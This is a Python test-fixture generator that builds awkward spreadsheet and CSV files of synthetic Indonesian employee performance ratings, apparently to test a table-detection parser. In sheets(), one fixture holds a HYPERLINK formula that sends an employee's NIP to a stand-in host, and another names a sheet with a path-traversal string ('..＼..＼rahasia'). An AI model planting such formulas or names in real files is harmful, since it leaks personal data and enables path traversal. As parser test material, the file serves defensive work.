"""Workbooks whose table is hard to find: letterheads, merged headers, totals, signatures, hidden and several tables."""

from __future__ import annotations

from typing import Any

from museum_people import NAMES, NIPS, RECAP, TITLE, recap
from museum_writers import Rows, book, text

LETTERHEAD = [["PEMERINTAH RANGKUI"], ["DINAS CONTOH"], ["Jalan Contoh Nomor 1"]]
SIGNED = [["", "", "", "", "", "Rangkui, 31 Maret 2025"], ["", "", "", "", "", "Mengetahui"], ["", "", "", "", "", "Pimpinan OPD"],
          [], ["", "", "", "", "", "Contoh Pimpinan"], ["", "", "", "", "", "NIP. 197502022000031001"]]  # fmt: skip
NO = ["No", *RECAP]


def _numbered(rows: Rows, start: int = 1) -> list[list[Any]]:
    return [[number, *row] for number, row in enumerate(rows, start)]


def _merged(*regions: str) -> Any:
    def finish(_: Any, sheets: dict[str, Any]) -> None:
        for region in regions:
            next(iter(sheets.values())).merge_range(region, None)

    return finish


def headers() -> dict[str, bytes]:
    """Where the header is and how many levels it has."""
    two = [["No", "NIP", "Nama Pegawai", "Unit Kerja", "Tahun", "Periode", "Rating", "", "Predikat Kinerja"],
           ["", "", "", "", "", "", "Hasil Kerja", "Perilaku Kerja", ""]]  # fmt: skip
    five = [["DATA PENILAIAN"], ["Pegawai", "", "", "Waktu", "", "Penilaian"], ["", "", "", "", "", "Rating", "", "Akhir"],
            ["", "", "", "", "", "Sesuai Aturan", "", ""],
            ["NIP", "Nama Pegawai", "Unit Kerja", "Tahun", "Periode", "Rating Hasil Kerja", "Rating Perilaku Kerja", "Predikat Kinerja"]]  # fmt: skip
    gap = [[*row[:3], "", *row[3:]] for row in [RECAP, *recap()]]
    twins = [[*row, row[0]] for row in [RECAP, *recap()]]
    return {
        "kop_surat_tiga_baris.xlsx": book({"Rekap": [*LETTERHEAD, [], ["DAFTAR NOMINATIF PEGAWAI"], ["Unit Kerja : Bidang Data"],
                                                     ["Periode : Triwulan I Tahun 2025"], [*RECAP[:2], *RECAP[5:]],
                                                     *[[*row[:2], *row[5:]] for row in recap()]]}),
        "tajuk_dua_tingkat_gabung.xlsx": book(
            {"Rekap": [[TITLE], *two, *_numbered(recap())]},
            _merged("A2:A3", "B2:B3", "C2:C3", "D2:D3", "E2:E3", "F2:F3", "G2:H2", "I2:I3"),
        ),
        "tajuk_dua_tingkat_tanpa_gabung.csv": text([[TITLE], *two, *_numbered(recap())]),
        "tajuk_lima_tingkat.xlsx": book(
            {"Rekap": [[TITLE], *five, *recap()]}, _merged("A2:H2", "A3:C3", "D3:E3", "F3:H3", "F4:G4", "H4:H5", "F5:G5")
        ),
        "tajuk_baris_lima_belas.xlsx": book({"Rekap": [[TITLE], *[[f"Petunjuk {n}"] for n in range(2, 15)], RECAP, *recap()]}),
        "tajuk_spasi_dan_garis_baru.xlsx": book(
            {"Rekap": [[TITLE], [f" {name.replace('Rating Hasil Kerja', 'Rating Hasil' + chr(10) + 'Kerja')}  " for name in RECAP],
                       *recap()]}),
        "tajuk_salah_ketik.csv": text([[TITLE], ["NIP", "Nama Pegawai", "Unit Kerja", "Tahun", "Priode",
                                             "Rating Hasil Kerja", "Rating Perilaku Kerja", "Prediket Kinerja"], *recap()]),
        "tajuk_salah_ketik_berat.csv": text([[TITLE], ["NIP", "Nama", "Unit", "Tahun", "Periode", "Rtg Hsl Krj", "Rtg Prlku", "Prdkt"], *recap()]),
        "tajuk_urutan_lain.csv": text([[TITLE], *[row[::-1] for row in [RECAP, *recap()]]]),
        "tajuk_kembar.csv": text([[TITLE], *twins]),
        "tajuk_kolom_kosong_di_antara.csv": text([[TITLE], *gap]),
        "tanpa_tajuk.csv": text(recap()),
        "tajuk_saja.csv": text([[TITLE], RECAP]),
        "tajuk_variasi_rekap.csv": text([[TITLE], ["NIP/NRP", "Nama", "Unit Kerja", "Tahun", "Periode", "Hasil Kerja", "Perilaku Kerja",
                                                   "Predikat Kinerja Pegawai"], *recap()]),
    }  # fmt: skip


def rows() -> dict[str, bytes]:
    """Rows of the table that are no data, and people on two rows."""
    count = len(NO)
    total = ["Jumlah", *[""] * (count - 2), "4"]
    pairs: list[list[Any]] = []
    for number, row in enumerate(recap(), 1):
        pairs += [[number, "", row[1], *row[2:]], ["", "", row[0]]]
    return {
        "baris_nomor_1_2_3.xlsx": book({"Rekap": [[TITLE], NO, list(range(1, count + 1)), *_numbered(recap())]}),
        "baris_nomor_kurung.xlsx": book({"Rekap": [[TITLE], NO, [f"({n})" for n in range(1, count + 1)], *_numbered(recap())]}),
        "baris_jumlah_dan_rata_rata.xlsx": book(
            {"Rekap": [[TITLE], NO, *_numbered(recap()[:2]), ["Sub Total", "", "2"], *_numbered(recap()[2:], 3), total,
                       ["JML", "", "4"], ["Rata-rata", "", "", "", "", "", "", "", "Baik"], ["Total", "4 karyawan"]]}
        ),
        "blok_tanda_tangan.xlsx": book({"Rekap": [[TITLE], NO, *_numbered(recap()), [], *SIGNED]}),
        "catatan_kaki_bintang.xlsx": book(
            {"Rekap": [[TITLE], NO, *_numbered(recap()), ["* belum final"], ["** pegawai baru"], ["Keterangan: contoh"]]}
        ),
        "data_kosong.xlsx": book({"Triwulan I": [[TITLE], NO, ["Data Kosong"]]}),
        "baris_kosong_di_antara.csv": text([[TITLE], [], RECAP, [], recap()[0], [""] * 8, recap()[1], [], [], *recap()[2:]]),
        "orang_di_dua_baris.xlsx": book({"Rekap": [[TITLE], NO, *pairs]}),
        "baris_lebih_panjang_dari_tajuk.csv": text([[TITLE], RECAP, *[[*row, "", "x"] for row in recap()]]),
        "baris_lebih_pendek_dari_tajuk.csv": text([[TITLE], RECAP, *recap()[:3], recap()[3][:7]]),
    }  # fmt: skip


def sheets() -> dict[str, bytes]:
    """Several sheets, several tables, hidden parts, numbers kept as numbers."""

    def hide_rows(_: Any, made: dict[str, Any]) -> None:
        made["Rekap"].set_row(3, None, None, {"hidden": True})

    def hide_column(_: Any, made: dict[str, Any]) -> None:
        made["Rekap"].set_column(1, 1, None, None, {"hidden": True})

    def hide_sheet(_: Any, made: dict[str, Any]) -> None:
        made["Rekap"].activate()
        made["Lama"].hide()

    def link(work: Any, made: dict[str, Any]) -> None:
        made["Rekap"].write_formula("I3", '=HYPERLINK("http://contoh.invalid/?n="&B3,"klik")', None, "klik")
        made["Rekap"].write_url("I4", "http://contoh.invalid/", None, "Baik")
        work.define_name("Jebakan", "=Rekap!$A$1")

    first, second = recap()[:2], recap(periode=["Triwulan II"] * 4)[:2]
    numbers = [[198609262015051001, *recap()[0][1:]], [1.98203042006041e17, *recap()[2][1:]], recap()[1]]
    return {
        "satu_lembar_satu_unit.xlsx": book({
            "Sekretariat": [[TITLE], ["Unit Kerja : Sekretariat"], ["Periode : Triwulan I Tahun 2025"], [*RECAP[:2], *RECAP[5:]],
                            [*recap()[0][:2], *recap()[0][5:]]],
            "Bidang Data": [[TITLE], ["Unit Kerja : Bidang Data"], ["Periode : Triwulan I Tahun 2025"], [*RECAP[:2], *RECAP[5:]],
                            [*recap()[1][:2], *recap()[1][5:]]]}),
        "dua_tabel_satu_lembar.xlsx": book({"Rekap": [[TITLE], RECAP, *first, [], ["Lanjutan"], RECAP, *second]}),
        "lembar_kembar_antar_lembar.xlsx": book({"Asli": [[TITLE], RECAP, *recap()], "Salinan": [[TITLE], RECAP, *recap()]}),
        "baris_tersembunyi.xlsx": book({"Rekap": [[TITLE], RECAP, *recap()]}, hide_rows),
        "kolom_tersembunyi.xlsx": book({"Rekap": [[TITLE], RECAP, *recap()]}, hide_column),
        "lembar_tersembunyi.xlsx": book({"Rekap": [[TITLE], RECAP, *first], "Lama": [[TITLE], RECAP, *second]}, hide_sheet),
        "lembar_tanpa_tabel.xlsx": book({"Petunjuk": [["Cara mengisi"], ["1. Isi NIP"]], "Rekap": [[TITLE], RECAP, *recap()]}),
        "nip_sebagai_bilangan.xlsx": book({"Rekap": [[TITLE], RECAP, *numbers]}),
        "sel_rumus_dan_tautan.xlsx": book({"Rekap": [[TITLE], [*RECAP, "Tautan"], *recap()]}, link),
        "nama_lembar_aneh.xlsx": book({"..＼..＼rahasia": [[TITLE], RECAP, *recap()]}),
        "sel_gabung_ke_bawah.xlsx": book(
            {"Rekap": [[TITLE], RECAP, *[[*row[:3], *(row[3:5] if n == 0 else ["", ""]), *row[5:]] for n, row in enumerate(recap())]]},
            _merged("D3:D6", "E3:E6"),
        ),
        "hanya_nama_tanpa_nip.xlsx": book({"Rekap": [[TITLE], RECAP[1:], *[row[1:] for row in recap()]]}),
        "nama_berkoma_dan_gelar.xlsx": book({"Rekap": [[TITLE], RECAP,
                                                        *recap(nama=["Contoh Satu, S.Pd., M.Si", "dr. Contoh Dua", *NAMES[2:]], nip=NIPS)]}),
    }  # fmt: skip


def exhibits() -> dict[str, bytes]:
    """All of them by file name."""
    return {**headers(), **rows(), **sheets()}
